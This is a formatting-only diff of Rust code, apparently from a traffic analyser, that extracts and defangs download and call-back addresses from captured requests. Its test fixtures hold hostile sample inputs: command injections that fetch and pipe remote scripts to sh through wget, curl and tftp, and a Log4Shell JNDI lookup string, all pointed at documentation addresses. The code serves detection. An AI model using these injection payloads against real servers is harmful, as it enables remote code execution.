@@ -36,15 +36,23 @@ pub struct Indicator {
 pub(crate) fn indicators(raw: &[u8], views: &[Text]) -> Vec<Indicator> {
     let mut indicators: Vec<Indicator> = Vec::new();
     for text in views {
-        for found in ADDRESS.captures_iter(&text.bytes).filter_map(|captures| captures.get(1)) {
+        for found in ADDRESS
+            .captures_iter(&text.bytes)
+            .filter_map(|captures| captures.get(1))
+        {
             // In its case, where a byte was sent as itself.
             let in_its_case = |at: usize| match text.raw_range(at..at + 1) {
                 place if place.len() == 1 => raw.get(place.start).copied(),
                 _ => text.bytes.get(at).copied(),
             };
             let address = defanged(&found.range().filter_map(in_its_case).collect::<Vec<_>>());
-            if indicators.len() < MAX_INDICATORS && indicators.iter().all(|held| held.address != address) {
-                indicators.push(Indicator { address, evidence: text.raw_range(found.range()) });
+            if indicators.len() < MAX_INDICATORS
+                && indicators.iter().all(|held| held.address != address)
+            {
+                indicators.push(Indicator {
+                    address,
+                    evidence: text.raw_range(found.range()),
+                });
             }
         }
     }
@@ -58,18 +66,29 @@ pub(crate) fn indicators(raw: &[u8], views: &[Text]) -> Vec<Indicator> {
 
 /// Makes an address harmless: another scheme, no dots in the host, nothing but printable ASCII.
 fn defanged(address: &[u8]) -> String {
-    let text: String = address.iter().filter(|byte| byte.is_ascii_graphic()).copied().map(char::from).collect();
+    let text: String = address
+        .iter()
+        .filter(|byte| byte.is_ascii_graphic())
+        .copied()
+        .map(char::from)
+        .collect();
     let text = text.replace('\\', "/");
-    let (scheme, rest) =
-        match text.split_once(['/', ':']).filter(|(scheme, _)| scheme.bytes().all(|byte| byte.is_ascii_alphabetic())) {
-            Some((scheme, rest)) => (
-                format!("{}://", scheme.replace("tt", "xx").replace("ftp", "fxp")),
-                rest.trim_start_matches(['/', ':']),
-            ),
-            None => (String::new(), text.as_str()),
-        };
+    let (scheme, rest) = match text
+        .split_once(['/', ':'])
+        .filter(|(scheme, _)| scheme.bytes().all(|byte| byte.is_ascii_alphabetic()))
+    {
+        Some((scheme, rest)) => (
+            format!("{}://", scheme.replace("tt", "xx").replace("ftp", "fxp")),
+            rest.trim_start_matches(['/', ':']),
+        ),
+        None => (String::new(), text.as_str()),
+    };
     let end = rest.find('/').unwrap_or(rest.len());
-    format!("{scheme}{}{}", rest[..end].replace('.', "[.]"), &rest[end..])
+    format!(
+        "{scheme}{}{}",
+        rest[..end].replace('.', "[.]"),
+        &rest[end..]
+    )
 }
 
 #[cfg(test)]
@@ -80,19 +99,40 @@ mod tests {
         let sent = Text::raw(raw, 0);
         let decoded = sent.decoded(false);
         let views: Vec<Text> = [Some(sent), decoded].into_iter().flatten().collect();
-        indicators(raw, &views).into_iter().map(|indicator| indicator.address).collect()
+        indicators(raw, &views)
+            .into_iter()
+            .map(|indicator| indicator.address)
+            .collect()
     }
 
     #[test]
     fn downloads_and_call_backs_are_defanged() {
         for (raw, address) in [
-            (&b"GET /?x=;wget+http://198.51.100.1/a.sh;sh+a.sh HTTP/1.1"[..], "hxxp://198[.]51[.]100[.]1/a.sh"),
-            (b"wget http:/\\/198.51.100.1/arm7;", "hxxp://198[.]51[.]100[.]1/arm7"),
-            (b"cd /tmp; wget 198.51.100.2:81/x -O y", "198[.]51[.]100[.]2:81/x"),
-            (b"wget+http://198.51.100.4/X.Sh+-O-|sh", "hxxp://198[.]51[.]100[.]4/X.Sh"),
+            (
+                &b"GET /?x=;wget+http://198.51.100.1/a.sh;sh+a.sh HTTP/1.1"[..],
+                "hxxp://198[.]51[.]100[.]1/a.sh",
+            ),
+            (
+                b"wget http:/\\/198.51.100.1/arm7;",
+                "hxxp://198[.]51[.]100[.]1/arm7",
+            ),
+            (
+                b"cd /tmp; wget 198.51.100.2:81/x -O y",
+                "198[.]51[.]100[.]2:81/x",
+            ),
+            (
+                b"wget+http://198.51.100.4/X.Sh+-O-|sh",
+                "hxxp://198[.]51[.]100[.]4/X.Sh",
+            ),
             (b"tftp -g -r mips 198.51.100.3;", "198[.]51[.]100[.]3"),
-            (b"curl%20-s%20ftp%3A%2f%2fexample.com/q|sh", "fxp://example[.]com/q"),
-            (b"${jndi:ldap://example.com:1389/a}", "ldap://example[.]com:1389/a"),
+            (
+                b"curl%20-s%20ftp%3A%2f%2fexample.com/q|sh",
+                "fxp://example[.]com/q",
+            ),
+            (
+                b"${jndi:ldap://example.com:1389/a}",
+                "ldap://example[.]com:1389/a",
+            ),
         ] {
             assert_eq!(addresses(raw), [address], "{}", raw.escape_ascii());
         }
@@ -101,7 +141,8 @@ mod tests {
     #[test]
     fn ordinary_addresses_are_none() {
         for raw in [
-            &b"GET / HTTP/1.1\r\nHost: 198.51.100.1\r\nUser-Agent: curl/8.1\r\nAccept: */*\r\n\r\n"[..],
+            &b"GET / HTTP/1.1\r\nHost: 198.51.100.1\r\nUser-Agent: curl/8.1\r\nAccept: */*\r\n\r\n"
+                [..],
             b"GET / HTTP/1.1\r\nReferer: http://example.com/\r\n\r\n",
             b"GET / HTTP/1.1\r\nUser-Agent: Wget/1.21 (+http://example.com)\r\n\r\n",
         ] {
